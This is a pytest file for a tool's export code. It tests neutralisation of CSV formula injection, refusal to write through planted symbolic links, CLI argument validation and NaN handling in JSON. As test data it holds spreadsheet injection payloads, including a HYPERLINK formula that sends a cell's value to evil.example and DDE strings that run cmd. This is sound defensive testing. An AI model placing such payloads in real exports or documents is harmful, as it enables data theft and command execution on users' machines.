"""Files out: exported CSVs open as text where a cell looks like a formula (OWASP's leading '),
numbers stay numbers; exports never write through a planted symbolic link; `runs --export`
with an empty id or folder is an error; --json output is valid JSON when a number is NaN."""
from __future__ import annotations

import csv
import json
import math

import numpy as np
import pandas as pd
import pytest
from user_helpers import FEATURES, fast_config, write_csv

from dfkd_core.cli import main
from dfkd_core.config import DistillConfig
from dfkd_core.files_out import csv_bytes, json_text, neutral_cell, write_bytes
from dfkd_core.runs.runstore import RunStore

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(cell):
    assert neutral_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-1.5, -3, 0.0, "abc", "a=b", "", None], ids=["neg-float", "neg-int", "zero", "text",
                                                                               "inner-equals", "empty", "none"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutral_cell(value) == value or (value is None and neutral_cell(value) is None)


def test_a_csv_export_keeps_negative_numbers_as_numbers_and_quotes_formula_text():
    df = pd.DataFrame({"=cmd|x": [-1.25, 2.0], "label": [FORMULAS[0], "ok"]})
    rows = list(csv.reader(csv_bytes(df).decode().splitlines()))
    assert rows[0] == ["'=cmd|x", "label"]
    assert rows[1] == ["-1.25", "'" + FORMULAS[0]] and rows[2] == ["2.0", "ok"]


def test_an_exported_students_test_rows_open_as_text_where_the_users_columns_are_formulas(tmp_path):
    from dfkd_core.engine import run_distillation
    from dfkd_core.engine.context import prepare_run
    from dfkd_core.runs.export import export_run, member_dicts

    names = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "speed", "@temp"]
    table = pd.read_csv(write_csv(tmp_path / "raw.csv"))
    table.columns = [*names, "y"]
    table.to_csv(tmp_path / "plant.csv", index=False)
    cfg = fast_config(data_file=str(tmp_path / "plant.csv"), target="y", samplers=("gaussian",))
    run = prepare_run(cfg)
    export_run(cfg, member_dicts(run_distillation(cfg, run=run)), tmp_path / "out", run=run)
    rows = list(csv.reader((tmp_path / "out" / "test_rows.csv").read_text().splitlines()))
    assert rows[0] == ["'" + names[0], "'" + names[1], "speed", "'@temp", "y"]
    body = np.array(rows[1:], dtype=float)  # every data cell is still a number (negative ones too)
    assert (body < 0).any() and np.isfinite(body).all()


def test_an_export_never_writes_through_a_planted_link(tmp_path):
    from dfkd_core.engine import run_distillation
    from dfkd_core.engine.context import prepare_run
    from dfkd_core.errors import DfkdError
    from dfkd_core.runs.export import export_run, export_student, member_dicts

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    cfg = fast_config(data_file=str(write_csv(tmp_path / "plant.csv")), target="y", samplers=("gaussian",))
    run = prepare_run(cfg)
    members = member_dicts(run_distillation(cfg, run=run))
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "test_rows.csv").symlink_to(victim)
    with pytest.raises(DfkdError):  # a folder holding anything (a link too) is refused
        export_run(cfg, members, planted, run=run)
    (tmp_path / "linked").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (tmp_path / "elsewhere").mkdir()
    with pytest.raises(DfkdError, match="is a symbolic link: exports never write through links"):
        export_run(cfg, members, tmp_path / "linked", run=run)
    out = tmp_path / "one"
    out.mkdir()
    for name in ("student.pt", "model.json"):  # one student's folder with links at its files' names
        (out / name).symlink_to(victim)
    export_student(run.cfg, run.split, members[0]["state_dict"], out, member=members[0]["member"],
                   selection={"test_rmse": 0.0, "test_mae": 0.0})
    assert victim.read_text() == "precious" and list((tmp_path / "elsewhere").iterdir()) == []
    for name in ("student.pt", "model.json"):
        assert (out / name).is_file() and not (out / name).is_symlink()
    assert json.loads((out / "model.json").read_text())["inputs"]["names"] == list(FEATURES)


def test_write_bytes_never_writes_through_a_link(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "metrics.csv").symlink_to(victim)
    write_bytes(tmp_path / "metrics.csv", b"a,b\n")
    assert victim.read_text() == "precious" and (tmp_path / "metrics.csv").read_bytes() == b"a,b\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["metrics.csv", "victim.txt"]  # no temporary file left


@pytest.fixture
def stored_run():
    store = RunStore()
    return store.create_run(DistillConfig(epochs=3), title='=HYPERLINK("http://evil.example","x")')


def test_runs_export_does_not_follow_a_planted_metrics_link(tmp_path, stored_run, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    for name in ("metrics.csv", "results.csv", "config.json"):
        (out / name).symlink_to(victim)
    assert main(["runs", "--export", stored_run, "--out", str(out)]) == 0
    assert victim.read_text() == "precious"
    assert all((out / n).is_file() and not (out / n).is_symlink() for n in ("metrics.csv", "results.csv", "config.json"))
    assert json.loads((out / "config.json").read_text())["epochs"] == 3


def test_runs_export_refuses_an_out_folder_that_is_a_link(tmp_path, stored_run, capsys):
    target = tmp_path / "elsewhere"
    target.mkdir()
    (tmp_path / "out").symlink_to(target)
    assert main(["runs", "--export", stored_run, "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "is a symbolic link: exports never write through links" in err[0]
    assert list(target.iterdir()) == []


@pytest.mark.parametrize("argv, flag", [(["--export", "", "--out", "OUT"], "--export"), (["--export", "ID", "--out", ""], "--out"),
                                        (["--delete", ""], "--delete"), (["--stop", " "], "--stop")],
                         ids=["empty-export", "empty-out", "empty-delete", "blank-stop"])
def test_runs_with_an_empty_id_or_folder_is_an_error(argv, flag, tmp_path, capsys):
    argv = [str(tmp_path / "out") if a == "OUT" else a for a in argv]
    assert main(["runs", *argv]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"error: {flag} needs a value. Got {' ' if flag == '--stop' else ''!r} instead."]
    assert not (tmp_path / "out").exists()


def test_json_output_writes_null_for_nan_and_infinity():
    text = json_text({"test_rmse": float("nan"), "curve": [1.0, np.float64("inf"), -np.float32("inf")], "n": 3})
    assert json.loads(text) == {"test_rmse": None, "curve": [1.0, None, None], "n": 3}
    assert "NaN" not in text and "Infinity" not in text and math.isfinite(json.loads(text)["curve"][0])
